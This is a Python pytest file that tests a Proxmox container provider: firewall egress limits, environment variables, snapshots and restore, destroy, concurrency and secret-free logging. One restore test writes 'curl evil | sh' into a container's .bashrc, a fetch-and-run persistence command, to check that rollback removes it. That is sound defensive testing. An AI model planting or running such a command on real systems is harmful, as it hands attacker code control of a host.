"""Provider proxmox with the stand-in, which checks every call against Proxmox's schema."""

from __future__ import annotations

import logging
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest

from shards.providers.base import CLEAN, ContainerSpec, ContainerState, NullJournal
from shards.providers.errors import NotSupported, ProviderBusy, ProviderError
from shards.providers.proxmox.naming import Ref
from shards.providers.proxmox.provider import ProxmoxProvider
from shards.providers.proxmox.storage_lock import database_lock
from tests.fixtures.proxmox.driven import SPEC, Book, add_template, book, provider, provider_for, settings_for, standin
from tests.fixtures.proxmox.server import StandIn

__all__ = ["book", "provider", "standin"]

ARCHIVED = replace(SPEC, image="debian")
SOURCES = pytest.mark.parametrize("spec", [SPEC, ARCHIVED], ids=["clone", "archive"])


@SOURCES
def test_a_container_is_created_stopped_with_its_limits(
    standin: StandIn, provider: ProxmoxProvider, book: Book, spec: ContainerSpec
) -> None:
    ref = provider.create(spec, book)
    config = standin.world.containers[Ref.of(ref).vmid].config
    assert book.refs == [ref]
    assert provider.status(ref).state is ContainerState.STOPPED
    assert (config["cores"], config["cpulimit"], config["memory"], config["swap"]) == (1, "0.5", 768, 0)
    assert (config["unprivileged"], config["hostname"], config["tags"]) == (1, "shard-1", "myctobot-shard")
    assert config["net0"] == "name=eth0,bridge=vmbr1,firewall=1,ip=dhcp,type=veth"
    assert "nesting=1" in config["features"].split(",")
    assert "size=3072M" in config["rootfs"]


@SOURCES
def test_it_may_reach_what_the_settings_name_and_nothing_else(
    standin: StandIn, provider: ProxmoxProvider, spec: ContainerSpec
) -> None:
    container = standin.world.containers[Ref.of(provider.create(spec, NullJournal())).vmid]
    assert {(rule["type"], rule["proto"], rule["dest"], rule["dport"]) for rule in container.rules} == {
        ("out", "tcp", "10.9.0.1", "8443"),
        ("out", "tcp", "10.9.0.1", "6380"),
        ("out", "udp", "10.9.0.1", "53"),
    }
    assert container.firewall["policy_in"] == container.firewall["policy_out"] == "DROP"
    assert container.firewall["enable"] == "1"
    assert container.firewall["macfilter"] == container.firewall["ipfilter"] == "1"


def test_a_clone_keeps_none_of_its_templates_other_networks(standin: StandIn) -> None:
    add_template(standin, 9000, net1="name=eth1,bridge=vmbr1,ip=dhcp", protection=1)
    ref = provider_for(standin).create(SPEC, NullJournal())
    config = standin.world.containers[Ref.of(ref).vmid].config
    assert "net1" not in config
    assert "protection" not in config


def test_an_archive_gets_the_key_that_ansible_comes_with(standin: StandIn, provider: ProxmoxProvider) -> None:
    provider.create(ARCHIVED, NullJournal())
    (asked,) = standin.asked("POST", "/lxc$")
    assert asked["ssh-public-keys"].startswith("ssh-ed25519 ")


def test_the_clean_snapshot_holds_no_token_and_the_container_does(standin: StandIn, provider: ProxmoxProvider) -> None:
    container = standin.world.containers[Ref.of(provider.create(SPEC, NullJournal())).vmid]
    assert container.config["env"] == "ENROL_TOKEN=mcte_1"
    assert "mcte_1" not in repr(container.snapshots[CLEAN])


def test_it_starts_with_its_variables_and_stops(standin: StandIn, provider: ProxmoxProvider, book: Book) -> None:
    ref = provider.create(SPEC, book)
    provider.start(ref, book)
    provider.start(ref, book)
    running = provider.status(ref)
    assert (running.state, running.address) == (ContainerState.RUNNING, f"10.9.0.{Ref.of(ref).vmid}")
    assert (running.memory_mb, running.disk_mb) == (768, 3072)
    assert standin.memory.environments[Ref.of(ref).vmid] == {"ENROL_TOKEN": "mcte_1"}
    provider.stop(ref, book, timeout_s=3)
    provider.stop(ref, book, timeout_s=3)
    assert provider.status(ref).state is ContainerState.STOPPED
    assert standin.memory.stops[Ref.of(ref).vmid] == 3


def test_going_back_undoes_what_a_job_did_and_leaves_it_stopped(
    standin: StandIn, provider: ProxmoxProvider, book: Book
) -> None:
    ref = provider.create(SPEC, book)
    vmid = Ref.of(ref).vmid
    provider.start(ref, book)
    standin.memory.files[vmid]["/root/.bashrc"] = "curl evil | sh"
    provider.restore(ref, CLEAN, book)
    assert "/root/.bashrc" not in standin.memory.files[vmid]
    assert provider.status(ref).state is ContainerState.STOPPED
    assert [found.ref for found in provider.list()] == [ref]


def test_variables_are_replaced_and_those_of_the_image_stay(standin: StandIn) -> None:
    add_template(standin, 9000, env="PATH=/opt/bin\0LANG=C")
    provider = provider_for(standin)
    ref = provider.create(SPEC, NullJournal())
    config = standin.world.containers[Ref.of(ref).vmid].config
    assert config["env"] == "PATH=/opt/bin\0LANG=C\0ENROL_TOKEN=mcte_1"
    provider.set_environment(ref, {"ENROL_TOKEN": "mcte_2", "LANG": "de"})
    assert config["env"] == "PATH=/opt/bin\0LANG=de\0ENROL_TOKEN=mcte_2"
    provider.set_environment(ref, {})
    assert config["env"] == "PATH=/opt/bin\0LANG=C"


def test_variables_can_be_taken_away_altogether(standin: StandIn, provider: ProxmoxProvider) -> None:
    ref = provider.create(SPEC, NullJournal())
    provider.set_environment(ref, {})
    assert "env" not in standin.world.containers[Ref.of(ref).vmid].config


def test_a_snapshot_takes_the_place_of_the_older_one(standin: StandIn, provider: ProxmoxProvider, book: Book) -> None:
    ref = provider.create(SPEC, book)
    files = standin.memory.files[Ref.of(ref).vmid]
    for content in ("one", "two"):
        files["/data"] = content
        provider.snapshot(ref, "current", book)
    files["/data"] = "three"
    provider.restore(ref, "current", book)
    assert standin.memory.files[Ref.of(ref).vmid]["/data"] == "two"


def test_there_is_no_going_back_to_a_snapshot_that_is_not_there(provider: ProxmoxProvider, book: Book) -> None:
    ref = provider.create(SPEC, book)
    provider.start(ref, book)
    with pytest.raises(ProviderError, match="no snapshot 'before-job'"):
        provider.restore(ref, "before-job", book)
    assert provider.status(ref).state is ContainerState.RUNNING


def test_destroying_leaves_nothing_running_or_not(standin: StandIn, provider: ProxmoxProvider, book: Book) -> None:
    stopped, running = provider.create(SPEC, book), provider.create(replace(SPEC, name="shard-2"), book)
    provider.start(running, book)
    for ref in (stopped, running, running):
        provider.destroy(ref, book)
        assert provider.status(ref).state is ContainerState.GONE
    assert provider.list() == []
    assert set(standin.world.containers) == {9000}
    assert {tuple(sorted(asked)) for asked in standin.asked("DELETE", r"/lxc/\d+$")} == {
        ("destroy-unreferenced-disks", "force", "purge")
    }


def test_the_list_names_shard_state_and_birth(provider: ProxmoxProvider, book: Book) -> None:
    first, second = provider.create(SPEC, book), provider.create(replace(SPEC, name="shard-2"), book)
    provider.start(second, book)
    found = {one.ref: one for one in provider.list()}
    assert (found[first].name, found[first].state) == ("shard-1", ContainerState.STOPPED)
    assert (found[second].name, found[second].state) == ("shard-2", ContainerState.RUNNING)
    assert all(one.created_at for one in found.values())


def test_an_unknown_template_is_refused_before_any_request(provider: ProxmoxProvider, book: Book) -> None:
    with pytest.raises(NotSupported, match="no template 'browser'; it has: debian, general"):
        provider.create(replace(SPEC, image="browser"), book)
    assert book.refs == []


def test_before_9_1_variables_are_left_to_ansible(standin: StandIn, book: Book) -> None:
    standin.world.release = "9.0"
    provider = provider_for(standin)
    assert not provider.features.environment
    ref = provider.create(SPEC, book)
    assert "env" not in standin.world.containers[Ref.of(ref).vmid].config
    with pytest.raises(NotSupported, match=r"before Proxmox 9\.1"):
        provider.set_environment(ref, {"A": "b"})


def test_before_9_1_a_start_waits_until_ansible_can_come(standin: StandIn, book: Book) -> None:
    standin.world.release = "9.0"
    standin.memory.looks_without_address = 3
    provider = provider_for(standin)
    ref = provider.create(SPEC, book)
    provider.start(ref, book)
    assert provider.status(ref).address is not None


def test_a_version_that_is_known_is_not_forgotten_while_proxmox_is_away(
    standin: StandIn, provider: ProxmoxProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert provider.features.environment
    monkeypatch.setattr("shards.providers.proxmox.provider._VERSION_KEPT_S", 0)
    standin.upset("GET", "/version$", "595 Connection refused")
    assert provider.features.environment


def test_from_9_1_on_it_hands_variables_over(provider: ProxmoxProvider) -> None:
    assert provider.features.environment


def test_two_creators_at_once_get_a_container_each(standin: StandIn) -> None:
    providers = [provider_for(standin) for _ in range(4)]
    books = [Book() for _ in providers]
    with ThreadPoolExecutor(4) as pool:
        refs = [
            pool.submit(one.create, replace(SPEC, name=f"shard-{number}"), books[number])
            for number, one in enumerate(providers)
        ]
    made = {future.result() for future in refs}
    assert len({Ref.of(ref).vmid for ref in made}) == 4
    assert {found.ref for found in providers[0].list()} == made


def test_progress_of_a_long_task_is_reported(standin: StandIn, book: Book, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("shards.providers.proxmox.tasks._PROGRESS_S", 0.2)
    standin.world.pace_s = 0.4
    provider_for(standin).create(SPEC, book)
    assert "clone template general into 100: transferred 1.0 GiB of 2.0 GiB (50.00%)" in book.steps


def test_a_full_clone_goes_to_the_storage_of_the_settings(standin: StandIn) -> None:
    standin.world.storages["fast"] = replace(standin.world.storages["local-zfs"])
    for acl in (standin.world.rights.user, standin.world.rights.token):
        acl["/storage/fast"] = {"Datastore.AllocateSpace", "Datastore.Audit"}
    ref = provider_for(standin, full_clones=True, storage="fast").create(SPEC, NullJournal())
    assert standin.world.containers[Ref.of(ref).vmid].storage == "fast"


def test_no_secret_is_logged_even_when_everything_is(
    standin: StandIn, provider: ProxmoxProvider, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG):
        provider.create(SPEC, NullJournal())
    assert "mcte_1" not in caplog.text
    assert settings_for(standin).token_secret not in caplog.text + repr(settings_for(standin)) + repr(SPEC)


@pytest.mark.django_db(transaction=True)
def test_turns_of_one_storage_go_one_by_one_and_those_of_others_do_not() -> None:
    def wait_for(storage: str) -> str:
        from django.db import connection  # each thread has its own

        try:
            with database_lock(storage, 0.2):
                return "had its turn"
        except ProviderBusy:
            return "busy"
        finally:
            connection.close()

    with database_lock("fast", 1), ThreadPoolExecutor(1) as pool:
        assert pool.submit(wait_for, "fast").result() == "busy"
        assert pool.submit(wait_for, "slow").result() == "had its turn"
    with ThreadPoolExecutor(1) as pool:
        assert pool.submit(wait_for, "fast").result() == "had its turn"


def test_two_control_planes_that_share_a_pool_do_not_see_each_other(standin: StandIn, book: Book) -> None:
    ours, theirs = provider_for(standin), provider_for(standin, owner="staging")
    ref = ours.create(SPEC, book)
    assert theirs.list() == []
    assert theirs.status(ref).state is ContainerState.GONE
    theirs.destroy(ref, book)
    assert [found.ref for found in ours.list()] == [ref]
